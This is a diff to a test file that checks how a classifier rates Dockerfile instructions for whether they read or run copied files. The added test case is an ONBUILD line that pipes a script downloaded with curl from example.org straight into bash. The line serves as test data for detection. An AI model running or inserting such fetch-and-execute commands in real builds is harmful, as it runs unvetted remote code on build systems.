@@ -165,6 +165,7 @@ describe('a program', () => {
     'COPY . /app ¦ RUN cd "$DIR" && make',
     'COPY . /app ¦ RUN cd /srv/x && make -f /app/Makefile',
     'COPY . /app ¦ RUN cd /srv/x && make -f../../app/Makefile',
+    'ONBUILD RUN bash -l -c "curl https://example.org/x.sh | bash"',
   ])('that may read them, or run what does, is open: %s', (line) => {
     expect(fate(line)).toMatch(/^(?:held|read)/);
   });
